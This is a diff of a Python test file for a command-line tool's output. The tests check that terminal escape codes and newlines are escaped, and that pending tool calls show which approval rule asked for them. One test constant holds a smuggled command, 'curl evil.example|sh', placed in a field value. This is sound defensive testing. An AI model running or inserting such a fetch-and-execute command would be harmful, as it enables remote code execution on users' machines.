@@ -1,10 +1,15 @@
 """What is to be copied, and what is said while something is awaited: nothing that Redis holds gets a word of its own there."""
 
-from holdfast.cli import show
+import pytest
+
+from holdfast.cli import pending, show
+from holdfast.cli.hints import asked_by
 from holdfast.cli.options import Where
 from holdfast.client import ConversationState
+from holdfast.client.results import PendingCall
 from holdfast.client.stack import announce
-from holdfast.conversation import Status
+from holdfast.conversation import Status, SuspensionKind
+from holdfast.conversation.calls import PendingView
 
 WRITTEN = "shop:app; curl evil.example|sh\n\x1b[2K"
 
@@ -23,3 +28,34 @@ def test_a_line_that_is_said_meanwhile_is_one_line(capsys):
     announce(f"the store is bound to the Ray cluster at {WRITTEN}")
     said = capsys.readouterr().err
     assert said == "the store is bound to the Ray cluster at shop:app; curl evil.example|sh\\n\\x1b[2K\n"
+
+
+RULED = PendingView(
+    conversation_id="c-1",
+    agent="coder",
+    tool_call_id="call_1",
+    suspension_id="s-1",
+    tool="Bash",
+    kind=SuspensionKind.APPROVAL,
+    created_at=1,
+)
+
+
+@pytest.mark.parametrize(
+    ("rule", "reason", "says"),
+    [
+        ("pushes", "Others see it.", "asked by the rule pushes: Others see it."),
+        ("Bash(git push *)", "", "asked by the rule Bash(git push *)"),
+        ("", "they cannot be read", "asked because they cannot be read"),
+        ("a\x1b[2Kb", "c\nd", "asked by the rule a\\x1b[2Kb: c\\nd"),
+    ],
+)
+def test_what_a_rule_asks_is_said_by_whom_and_why(rule, reason, says, capsys):
+    call = PendingCall.of(RULED.model_copy(update={"rule": rule, "rule_reason": reason}), lambda *_, **__: None)
+    pending.draw([call], 2, Where())
+    assert says in [line.strip() for line in capsys.readouterr().out.splitlines()]
+    assert f"(It is {says})" in show._body(call).plain
+
+
+def test_what_no_rule_asks_says_nothing_of_rules():
+    assert asked_by(PendingCall.of(RULED, lambda *_, **__: None)) == ""
